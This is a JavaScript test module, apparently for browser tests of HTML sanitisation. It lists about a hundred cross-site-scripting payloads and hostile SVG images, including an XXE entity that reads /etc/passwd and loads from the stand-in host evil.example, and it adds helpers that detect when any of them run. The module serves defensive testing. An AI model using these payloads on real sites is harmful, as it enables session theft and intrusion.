// A hundred texts that try to become more than text, and somebody who notices when one of them does.

/** Markup that a page would run or show as an element, were it taken for markup. `N` stands for its number, so that it is known which one ran. */
const MARKUP = [
    '<script>hit(N)</script>', '<ScRiPt>hit(N)</sCrIpT>', '<script src=//evil.example/N.js></script>', '<script/x>hit(N)</script>', '<script\n>hit(N)</script >',
    '<scr<script>ipt>hit(N)</scr</script>ipt>', '<<script>hit(N)//<</script>', '</title><script>hit(N)</script>', '</textarea><script>hit(N)</script>', '</script><script>hit(N)</script>',
    '<script type=module>hit(N)</script>', '<img src=x onerror=hit(N)>', '<img src=x onerror="hit(N)">', "<img src=x onerror='hit(N)'>", '<img/src=x/onerror=hit(N)>', '<img src=x:x onerror=hit(N)//',
    '<img src onerror=hit(N)>', '<img src=`x`onerror=hit(N)>', '<img srcset=x onerror=hit(N)>', '<image src=x onerror=hit(N)>', '<img src="https://evil.example/N.png">',
    '<svg onload=hit(N)>', '<svg/onload=hit(N)>', '<svg><script>hit(N)</script></svg>', '<svg><a href="javascript:hit(N)"><text>x</text></a></svg>',
    '<svg><animate onbegin=hit(N) attributeName=x dur=1s>', '<svg><set onbegin=hit(N) attributeName=x>', '<svg><use href="data:image/svg+xml,<svg onload=hit(N)>#x">', '<svg><foreignObject><body onload=hit(N)>',
    '<svg><style>@import"//evil.example/N"</style>', '<svg><title><img src=x onerror=hit(N)></title>', '<svg><desc><script>hit(N)</script>', '<body onload=hit(N)>', '<body onpageshow=hit(N)>',
    '<iframe src="javascript:hit(N)"></iframe>', '<iframe srcdoc="<script>parent.hit(N)</script>">', '<iframe onload=hit(N)>', '<iframe src=//evil.example/N>', '<frameset onload=hit(N)>', '<object data="javascript:hit(N)">',
    '<object data=//evil.example/N>', '<embed src="javascript:hit(N)">', '<embed src=//evil.example/N>', '<applet code=x onerror=hit(N)>', '<video src=x onerror=hit(N)>', '<video><source onerror=hit(N)></video>',
    '<audio src=x onerror=hit(N)>', '<video poster=//evil.example/N>', '<track onerror=hit(N)>', '<input autofocus onfocus=hit(N)>', '<select autofocus onfocus=hit(N)>', '<textarea autofocus onfocus=hit(N)>',
    '<button autofocus onfocus=hit(N)>x', '<button formaction="javascript:hit(N)">x', '<isindex type=image src=x onerror=hit(N)>', '<form action="javascript:hit(N)"><input type=submit>', '<form><button name=N>',
    '<details open ontoggle=hit(N)>', '<marquee onstart=hit(N)>', '<keygen autofocus onfocus=hit(N)>', '<meter onmouseover=hit(N)>0</meter>', '<div onpointerover=hit(N)>x</div>', '<p onanimationstart=hit(N) class=skeleton>x',
    '<a href="javascript:hit(N)">x</a>', '<a href="java&#9;script:hit(N)">x</a>', '<a href="&#106;avascript:hit(N)">x</a>', '<a href=" javascript:hit(N)">x</a>', '<a href="data:text/html,<script>hit(N)</script>">x</a>',
    '<a href="vbscript:hit(N)">x</a>', '<a href=//evil.example/N>x</a>', '<a ping=//evil.example/N href=/>x</a>', '<a style="animation:x" onanimationend=hit(N)>x', '<base href=//evil.example/>',
    '<link rel=stylesheet href=//evil.example/N.css>', '<link rel=preload as=script href=//evil.example/N.js>', '<link rel=import href=//evil.example/N>', '<meta http-equiv=refresh content="0;url=//evil.example/N">',
    '<meta http-equiv=refresh content="0;javascript:hit(N)">', '<style>*{background:url(//evil.example/N)}</style>', '<style onload=hit(N)></style>', '<math><mtext><img src=x onerror=hit(N)>',
    '<math href="javascript:hit(N)">x</math>', '<math><style><img src=x onerror=hit(N)>', '<noscript><p title="</noscript><img src=x onerror=hit(N)>">', '<template><script>hit(N)</script></template>',
    '<xmp><p title="</xmp><svg onload=hit(N)>">', '<dialog open onfocus=hit(N)>x', '<portal src=//evil.example/N>', '<x contenteditable onblur=hit(N)>x</x>',
    // Out of an attribute, a comment, a text that a script holds; what templates run; what is decoded twice.
    '"><img src=x onerror=hit(N)>', "'><img src=x onerror=hit(N)>", '" onfocus=hit(N) autofocus x="', "' onmouseover='hit(N)", '--><img src=x onerror=hit(N)>', ']]><img src=x onerror=hit(N)>',
    '${hit(N)}{{constructor.constructor("hit(N)")()}}', '&lt;img src=x onerror=hit(N)&gt;', '%3Cimg%20src=x%20onerror=hit(N)%3E', '\\u003cimg src=x onerror=hit(N)\\u003e', '[x](javascript:hit(N)) <https://evil.example/N>',
];
export const HOSTILE = MARKUP.map((text, n) => text.replaceAll('hit(N)', `hit(${n})`).replaceAll('N', String(n)));

/** Pictures that carry more than outlines. What of them is kept at all is shown. */
const picture = (inside, of = '') => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" ${of}>${inside}<rect width="80" height="40" fill="#4347cf"/></svg>`;
export const PICTURES = [
    picture('<script>hit(900)</script>'), picture('', 'onload="hit(901)"'), picture('<foreignObject width="80" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="hit(902)"/></body></foreignObject>'),
    picture('<image href="https://evil.example/903.png" width="9" height="9"/>'), picture('<a href="javascript:hit(904)"><rect width="80" height="40"/></a>'), picture('<use href="https://evil.example/905.svg#x"/>'),
    picture('<style>@import url(https://evil.example/906.css);</style>'), picture('<animate attributeName="href" values="javascript:hit(907)"/>'), picture('<set attributeName="onmouseover" to="hit(908)"/>'),
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${picture('<text>&x;</text>')}`, `<?xml-stylesheet href="https://evil.example/910.css"?>${picture('')}`,
    picture('<rect width="9" height="9" style="fill:url(https://evil.example/911#x)"/>'), picture('<handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript">hit(912)</handler>'),
];

/** Has a page note what runs, what the policy has had to stop, and what would ask. */
export async function watch({ context, page }) {
    const seen = [];
    await context.exposeFunction('hitOutside', (n) => void seen.push(`ran ${n}`));
    await context.addInitScript(() => {
        window.hit = (n) => window.hitOutside(n);
        for (const name of ['alert', 'confirm', 'prompt', 'open']) window[name] = () => window.hitOutside(name);
        addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => window.hitOutside(`policy: ${violatedDirective} ${blockedURI} ${sample}`));
    });
    page.on('dialog', (dialog) => (seen.push(`dialog ${dialog.message()}`), dialog.dismiss()));
    context.on('page', (other) => seen.push(`opened ${other.url()}`));
    return seen;
}

/** The elements of a page that only foreign markup can have made. */
export const alive = (page) => page.evaluate(() => {
    const never = 'iframe, frame, frameset, object, embed, applet, base, portal, marquee, keygen, isindex, noscript:not(body > noscript), math, xmp, meta[http-equiv=refresh], foreignObject, animate, set, dialog, details[open][ontoggle]';
    const found = [...document.querySelectorAll(never)].map((node) => node.outerHTML.slice(0, 120));
    // The components keep empty ones of their own.
    for (const node of document.querySelectorAll('template')) if (node.innerHTML) found.push(node.outerHTML.slice(0, 120));
    for (const node of document.querySelectorAll('*')) {
        const foreign = [...node.attributes].filter(({ name, value }) => {
            if (name.startsWith('on') || name === 'srcdoc' || name === 'ping' || name === 'formaction') return true;
            if (!['href', 'src', 'srcset', 'action', 'poster', 'data', 'xlink:href'].includes(name) || !value || value.startsWith('#')) return false;
            const url = new URL(value, location.href);
            return url.origin !== location.origin && !['data:', 'blob:'].includes(url.protocol) ? true : url.protocol === 'data:' && !value.startsWith('data:image/');
        });
        if (foreign.length) found.push(node.cloneNode(false).outerHTML.slice(0, 160));
        if (node.localName === 'script' && !node.src.startsWith(`${location.origin}/assets/`)) found.push(node.outerHTML.slice(0, 120));
        if (node.localName === 'style' && node.textContent.includes('evil.example')) found.push(node.outerHTML.slice(0, 120));
    }
    return found;
});
